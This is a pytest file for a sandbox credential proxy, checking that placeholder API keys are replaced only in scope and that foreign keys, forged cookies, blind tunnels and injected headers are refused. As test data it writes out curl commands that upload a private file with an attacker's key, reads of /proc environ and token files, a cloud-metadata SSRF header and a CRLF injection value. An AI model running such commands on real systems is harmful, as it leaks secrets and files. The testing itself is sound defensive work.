"""[[network.credentials]] through the real sandbox: the command holds a
placeholder, the proxy puts the real value in on requests in scope, and a
request carrying anybody else's credential never reaches the origin.

Every origin is a server this test starts on the host's 127.0.0.1; names
such as ``api.test`` reach it through the profile's ``network.hosts`` pin,
so nothing asks DNS.  Each attack is shown to work without the sandbox
first (the origin accepts and logs it), then refused inside.
"""

from __future__ import annotations

import http.server
import json
import shutil
import subprocess
import threading

import pytest
from egress_support import proxy_profile

CURL = shutil.which("curl")
pytestmark = pytest.mark.skipif(CURL is None, reason="curl is not installed")

REAL = "sk-ant-api03-REALsecretVALUE0123456789abcdefghijklmnopqrstuv"
ATTACKER = "sk-ant-api03-ATTACKERkey9876543210zyxwvutsrqponmlkjihgfedcba"


class _Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args) -> None:
        pass

    def _serve(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        self.server.seen.append({"method": self.command, "path": self.path,
                                 "headers": {k.lower(): v for k, v in self.headers.items()},
                                 "body": body})
        out = b"ok\n"
        self.send_response(200)
        if self.path.startswith("/v1/messages"):  # as a CDN in front of an API does
            self.send_header("Set-Cookie", "cdn=c0ffee; Path=/; HttpOnly")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    do_GET = do_POST = do_PUT = _serve


class Origin:
    """Logs every request that reaches it: method, path, headers, body."""

    def __init__(self) -> None:
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
        self.server.daemon_threads = True
        self.server.seen = []
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def seen(self) -> list:
        return self.server.seen

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


@pytest.fixture
def origin():
    srv = Origin()
    yield srv
    srv.close()


def _profile(senv, port: int, cred: str, rule_extra: str = "", extra: str = ""):
    rules = (f'[[network.allow]]\nhost = "api.test"\nports = [{port}]\n{rule_extra}\n'
             f"[[network.credentials]]\n{cred}\n")
    return proxy_profile(senv, rules, {"api.test": "127.0.0.1"}, extra=extra)


API_KEY_ENTRY = ('host = "api.test"\nfrom_env = "REAL_API_KEY"\nenv = "API_KEY"\n'
                 'header = "x-api-key"\nmethods = ["POST"]\npaths = ["/v1/messages"]\n')


def _run(senv, profile, script: str, report=None, **env):
    args = ["--profile", str(profile)]
    if report is not None:
        args += ["--report", str(report)]
    return senv.run(["sh", "-c", script], args=args, env=senv.environ(**env))


def _curl(url: str, *extra: str) -> str:
    return " ".join([CURL, "-sS", "-o", "/dev/null", "-w", "'%{http_code}\\n'", "--max-time",
                     "20", *extra, url])


def test_placeholder_replaced_only_in_scope(senv, origin):
    profile = _profile(senv, origin.port, API_KEY_ENTRY)
    base = f"http://api.test:{origin.port}"
    script = "; ".join([
        'echo "var=$API_KEY"',
        _curl(f"{base}/v1/messages", "-X", "POST", "-H", '"x-api-key: $API_KEY"', "-d", "hi"),
        _curl(f"{base}/v1/models", "-H", '"x-api-key: $API_KEY"'),  # out of scope: dropped
        _curl(f"{base}/v1/messages", "-H", '"x-api-key: $API_KEY"'),  # GET: out of scope
    ])
    out = _run(senv, profile, script, REAL_API_KEY=REAL)
    stdout = out.stdout.decode()
    assert out.returncode == 0, out.stderr
    assert stdout.splitlines()[1:] == ["200", "200", "200"], (stdout, out.stderr)
    placeholder = stdout.splitlines()[0].removeprefix("var=")
    assert placeholder.startswith("sandbox-placeholder-") and REAL not in stdout
    post, models, get = origin.seen
    assert (post["method"], post["path"]) == ("POST", "/v1/messages")
    assert post["headers"]["x-api-key"] == REAL  # replaced in scope
    assert "x-api-key" not in models["headers"] and "x-api-key" not in get["headers"]
    assert placeholder not in json.dumps([s["headers"] for s in origin.seen])


def test_exfiltration_with_an_attackers_key_is_refused(senv, origin, tmp_path):
    """The approved-domain exfiltration: the workspace carries an attacker's
    key; uploading workspace files with it to the allowed API host must
    reach the origin with nothing, while the session's own call works."""
    (senv.ws / "notes.txt").write_text(f"use this key: {ATTACKER}\n")
    (senv.ws / "private.txt").write_text("company secrets\n")
    base = f"http://api.test:{origin.port}"
    key = "$(sed -n 's/^use this key: //p' notes.txt)"
    attacks = [
        ("-H", f'"x-api-key: {key}"'),
        ("-H", f'"Authorization: Bearer {key}"'),
        ("-H", '"Cookie: session=abc123"'),
        ("-H", f'"X-Custom: {key}"'),  # a well-known token format in any header
        ("-u", f'"attacker:{key}"'),
    ]
    # without the sandbox the upload works: the origin gets the file and the key
    direct = subprocess.run(
        ["sh", "-c", _curl(f"http://127.0.0.1:{origin.port}/v1/files", "-X", "POST",
                           "-H", f'"x-api-key: {key}"', "--data-binary", "@private.txt")],
        cwd=senv.ws, capture_output=True, text=True)
    assert direct.stdout == "200\n"
    assert origin.seen[0]["headers"]["x-api-key"] == ATTACKER
    assert origin.seen[0]["body"] == b"company secrets\n"
    origin.seen.clear()

    profile = _profile(senv, origin.port, API_KEY_ENTRY.replace(
        'paths = ["/v1/messages"]', 'paths = ["/v1/messages", "/v1/files"]'))
    script = "; ".join(
        [_curl(f"{base}/v1/files", "-X", "POST", *attack, "--data-binary", "@private.txt")
         for attack in attacks]
        + [_curl(f"{base}/v1/files?key={key}", "-X", "POST", "--data-binary", "@private.txt"),
           _curl(f"{base}/v1/files?access_token=x", "-X", "POST", "-d", "x"),
           # and the session's own call works
           _curl(f"{base}/v1/messages", "-X", "POST", "-H", '"x-api-key: $API_KEY"', "-d", "hi")])
    report = senv.base / "report.json"
    out = _run(senv, profile, script, report=report, REAL_API_KEY=REAL)
    codes = out.stdout.decode().split()
    assert codes == ["403"] * 7 + ["200"], (codes, out.stderr)
    assert len(origin.seen) == 1, origin.seen  # nothing of the attacks arrived
    assert origin.seen[0]["path"] == "/v1/messages"
    assert origin.seen[0]["headers"]["x-api-key"] == REAL
    stderr = out.stderr.decode()
    assert "foreign credential" in stderr
    doc = json.loads(report.read_text())
    reasons = [b["reason"] for b in doc["network"]["blocked"]]
    assert len(reasons) == 7 and all(r.startswith("foreign credential") for r in reasons)
    assert doc["network"]["credentials"] == [
        {"host": "api.test", "env": "API_KEY", "from": "$REAL_API_KEY", "available": True}]
    for text in (stderr, report.read_text()):
        assert REAL not in text


def test_secret_never_visible_inside(senv, origin):
    """Not in the environment (also under another name, also with [env]
    pass), not in /proc/*/environ, not in the masked file, not in the
    report or stderr."""
    secret_dir = senv.home / ".config" / "apitoken"
    secret_dir.mkdir(parents=True)
    file_real = REAL.replace("REAL", "FILE")
    (secret_dir / "token").write_text(file_real + "\n")
    file_entry = ('host = "files.test"\nfrom_file = "${home}/.config/apitoken/token"\n'
                  'env = "FILE_TOKEN"\nscheme = "Bearer"\n')
    rules = (f'[[network.allow]]\nhost = "api.test"\nports = [{origin.port}]\n\n'
             f'[[network.allow]]\nhost = "files.test"\nports = [{origin.port}]\n\n'
             f"[[network.credentials]]\n{API_KEY_ENTRY}\n"
             f"[[network.credentials]]\n{file_entry}\n")
    extra = ('[env]\npass = ["REAL_API_KEY", "COPY_OF_KEY"]\n'
             '[filesystem]\ndeny_read = ["${home}/.config/apitoken"]\n')
    profile = proxy_profile(senv, rules, {"api.test": "127.0.0.1", "files.test": "127.0.0.1"},
                            extra=extra)
    script = ("env; cat /proc/[0-9]*/environ | tr '\\0' '\\n'; "
              f"cat {secret_dir}/token; ls {secret_dir}; "
              + _curl(f"http://files.test:{origin.port}/x", "-H",
                      '"Authorization: Bearer $FILE_TOKEN"') + "; "
              + _curl(f"http://api.test:{origin.port}/v1/messages", "-X", "POST",
                      "-H", '"x-api-key: nope"'))
    report = senv.base / "report.json"
    # [env] pass makes the caller's variable a candidate to pass in: the
    # credential entry takes it out all the same
    out = _run(senv, profile, script, report=report, REAL_API_KEY=REAL, COPY_OF_KEY=REAL)
    stdout, stderr = out.stdout.decode(), out.stderr.decode()
    assert "FILE_TOKEN=sandbox-placeholder-" in stdout and "API_KEY=sandbox-placeholder-" in stdout
    for secret in (REAL, file_real):
        assert secret not in stdout and secret not in stderr
        assert secret not in report.read_text()
    assert origin.seen[0]["headers"]["authorization"] == f"Bearer {file_real}"
    assert "REAL_API_KEY" not in stdout and "COPY_OF_KEY" not in stdout
    # nor on disk: not in the cached plan, the tool caches, the workspace
    scanned = []
    for path in senv.base.rglob("*"):
        if path.is_file() and not path.is_symlink() and path != secret_dir / "token":
            data = path.read_bytes()
            assert REAL.encode() not in data and file_real.encode() not in data, path
            scanned.append(path)
    assert any(".cache/sandbox" in str(p) for p in scanned)  # the plan cache was looked at
    assert "foreign credential" in stderr  # the wrong key was refused, and said so


def test_cookies_the_origin_set_in_the_run_go_back(senv, origin):
    """A client's cookie jar (httpx, curl -b) sends back what the API's CDN
    set: that is the session's own; any other cookie is foreign."""
    profile = _profile(senv, origin.port, API_KEY_ENTRY)
    url = f"http://api.test:{origin.port}/v1/messages"
    auth = ("-X", "POST", "-H", '"x-api-key: $API_KEY"', "-d", "hi")
    script = "; ".join([_curl(url, *auth, "-c", "jar", "-b", "jar"),
                        _curl(url, *auth, "-c", "jar", "-b", "jar"),
                        _curl(url, *auth, "-b", "'cdn=c0ffee; other=1'"),
                        _curl(url, *auth, "-b", "cdn=forged")])
    out = _run(senv, profile, script, REAL_API_KEY=REAL)
    assert out.stdout.decode().split() == ["200", "200", "403", "403"], out.stderr
    assert len(origin.seen) == 2
    assert origin.seen[1]["headers"]["cookie"] == "cdn=c0ffee"


def test_blind_tunnel_to_a_credential_host_is_refused(senv, origin):
    profile = _profile(senv, origin.port, API_KEY_ENTRY)
    out = _run(senv, profile, _curl(f"http://api.test:{origin.port}/v1/messages", "-p",
                                    "-X", "POST", "-H", f'"x-api-key: {ATTACKER}"'),
               REAL_API_KEY=REAL)
    assert out.stdout.decode().strip() in ("000", "403"), out.stdout
    assert "blind tunnel" in out.stderr.decode()
    assert origin.seen == []


def test_strip_and_refuse_headers(senv, origin):
    profile = proxy_profile(senv, (
        f'[[network.allow]]\nhost = "hooks.test"\nports = [{origin.port}]\n'
        'strip_headers = ["X-Forwarded-For"]\nrefuse_headers = ["x-fetch-url"]\n'),
        {"hooks.test": "127.0.0.1"})
    base = f"http://hooks.test:{origin.port}"
    script = "; ".join([_curl(f"{base}/a", "-H", '"X-Forwarded-For: 10.0.0.1"', "-H", '"X-Keep: 1"'),
                        _curl(f"{base}/b", "-H", '"X-Fetch-URL: http://169.254.169.254/"')])
    out = _run(senv, profile, script)
    assert out.stdout.decode().split() == ["200", "403"], out.stderr
    assert len(origin.seen) == 1
    assert "x-forwarded-for" not in origin.seen[0]["headers"]
    assert origin.seen[0]["headers"]["x-keep"] == "1"
    assert "header x-fetch-url is refused" in out.stderr.decode()


def test_missing_value_leaves_the_variable_unset(senv, origin):
    profile = _profile(senv, origin.port, API_KEY_ENTRY)
    out = _run(senv, profile, 'echo "var=${API_KEY-unset}"')
    assert out.stdout.decode().strip() == "var=unset"
    assert "REAL_API_KEY is not set on the host" in out.stderr.decode()


@pytest.mark.parametrize("who", ["self"], indirect=True)
def test_validation_explains_what_is_needed(senv, tmp_path):
    https_only = proxy_profile(senv, (
        '[[network.allow]]\nhost = "api.test"\n\n'
        f"[[network.credentials]]\n{API_KEY_ENTRY}\n"), name="https")
    out = senv.run(["true"], args=["--profile", str(https_only)])
    assert out.returncode == 125
    err = out.stderr.decode()
    assert "network.credentials[1].host" in err and "inspect = true" in err
    unmasked = senv.base / "token"
    unmasked.write_text("x")
    readable = proxy_profile(senv, (
        '[[network.allow]]\nhost = "api.test"\nports = [80]\n\n'
        f'[[network.credentials]]\nhost = "api.test"\nfrom_file = "{unmasked}"\nenv = "T"\n'),
        name="readable")
    out = senv.run(["true"], args=["--profile", str(readable)])
    assert out.returncode == 125
    err = out.stderr.decode()
    assert "from_file" in err and "readable inside the sandbox" in err and "deny_read" in err


def test_an_unusable_value_stops_the_run_without_showing_it(senv, origin):
    profile = _profile(senv, origin.port, API_KEY_ENTRY)
    bad = "not a header value\r\nX-Injected: 1"
    out = _run(senv, profile, "echo ran", REAL_API_KEY=bad)
    assert out.returncode == 125 and b"ran" not in out.stdout
    err = out.stderr.decode()
    assert "$REAL_API_KEY" in err and "cannot go in an HTTP header" in err
    assert "not a header value" not in err and "Injected" not in err
